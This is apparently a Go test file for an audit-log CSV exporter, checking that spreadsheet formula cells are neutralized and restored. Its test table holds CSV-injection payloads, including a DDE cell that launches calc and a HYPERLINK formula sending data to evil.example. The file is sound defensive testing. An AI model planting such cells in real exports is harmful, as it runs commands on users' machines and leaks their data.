package auditcsv

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/otelcol-audit/otelcol-audit/internal/auditevent"
)

// Cells a spreadsheet would run as formulas, and what the export writes.
var formulaCells = []struct{ value, cell string }{
	{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
	{`@SUM(1+1)`, `'@SUM(1+1)`},
	{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
	{`+1+1`, `'+1+1`},
	{`-2+3`, `'-2+3`},
	{"\t=1+1", "'\t=1+1"},
	{"\r=1+1", "'\r=1+1"},
	{`'=1+1`, `''=1+1`},  // a quote the sender wrote is kept
	{`''@x`, `'''@x`},    // and so are several
	{`'plain`, `'plain`}, // a leading quote before anything else is left alone
	{`a=1`, `a=1`},       // only the first character counts
	{``, ``},
	{`'`, `'`},
	{`report.view`, `report.view`},
}

func TestNeutralize(t *testing.T) {
	for _, tt := range formulaCells {
		assert.Equal(t, tt.cell, neutralize(tt.value), "%q", tt.value)
		assert.Equal(t, tt.value, unneutralize(tt.cell), "%q", tt.cell)
	}
}

// The writer neutralizes every cell (golden file), and the reader gives
// the values back.
func TestWriterNeutralizesFormulas(t *testing.T) {
	var buf bytes.Buffer
	w, err := NewWriter(&buf)
	require.NoError(t, err)
	var rows []*Row
	for i, tt := range formulaCells {
		if strings.ContainsAny(tt.value, "\t\r") {
			continue // the reader trims space around values; covered by TestNeutralize
		}
		r := &Row{Event: auditevent.Event{
			Action: "a" + tt.value, ID: "id-" + string(rune('a'+i)) + tt.value, ActorEmail: tt.value, ActorName: tt.value,
			ResourceName: tt.value, ResourceType: tt.value, ResourceID: tt.value, UserAgent: tt.value, Region: tt.value,
			Outcome: tt.value, Organization: tt.value, Message: tt.value, UserHash: tt.value,
		}, Group: tt.value, Categories: []string{tt.value}}
		r.Event.SetTime(time.Date(2025, 11, 20, 10, 0, i, 0, time.UTC))
		require.NoError(t, w.Write(r))
		rows = append(rows, r)
	}
	require.NoError(t, w.Flush())
	path := filepath.Join("testdata", "neutralized.csv")
	if os.Getenv("UPDATE_GOLDEN") != "" {
		require.NoError(t, os.WriteFile(path, buf.Bytes(), 0o644))
	}
	want, err := os.ReadFile(path)
	require.NoError(t, err, "UPDATE_GOLDEN=1 go test ./internal/auditcsv")
	assert.Equal(t, string(want), buf.String())
	for _, line := range strings.Split(buf.String(), "\n") {
		for _, cell := range strings.Split(line, ",") {
			cell = strings.TrimPrefix(cell, `"`)
			if cell != "" {
				assert.NotContains(t, "=+-@", cell[:1], "a cell begins with a formula character: %q", line)
			}
		}
	}

	recs, probs, err := readAll(t, buf.String())
	require.NoError(t, err)
	require.Zero(t, probs.Len(), "%+v", probs.List)
	require.Equal(t, len(rows), recs.Len())
	for i, r := range rows {
		attrs := recs.At(i).Attributes().AsRaw()
		assert.Equal(t, r.Event.Action, recs.At(i).EventName())
		assert.Equal(t, r.Event.ID, attrs["event.id"])
		if r.Event.ResourceName != "" {
			assert.Equal(t, r.Event.ResourceName, attrs["audit.resource.name"])
			assert.Equal(t, r.Event.Message, recs.At(i).Body().Str())
		}
	}
}

// A spreadsheet user who saved a neutralized cell and re-imports it gets
// the value, not the quote.
func TestReaderUnneutralizes(t *testing.T) {
	recs, probs, err := readAll(t, "Time,User,Action,Resource\n2025-11-20T10:00:00Z,jane@example.com,'-x,'=SUM(A1)\n")
	require.NoError(t, err)
	require.Zero(t, probs.Len(), "%+v", probs.List)
	assert.Equal(t, "-x", recs.At(0).EventName())
	assert.Equal(t, "=SUM(A1)", recs.At(0).Attributes().AsRaw()["audit.resource.name"])
}

// FuzzNeutralize: every value survives the pair, and no written cell
// begins with a character a spreadsheet runs.
func FuzzNeutralize(f *testing.F) {
	for _, tt := range formulaCells {
		f.Add(tt.value)
	}
	f.Fuzz(func(t *testing.T, s string) {
		n := neutralize(s)
		if got := unneutralize(n); got != s {
			t.Fatalf("unneutralize(neutralize(%q)) = %q", s, got)
		}
		if n != "" && strings.ContainsRune(formulaStart, rune(n[0])) {
			t.Fatalf("neutralize(%q) = %q begins with a formula character", s, n)
		}
		if len(n) > len(s)+1 {
			t.Fatalf("neutralize(%q) grew by more than one byte", s)
		}
	})
}
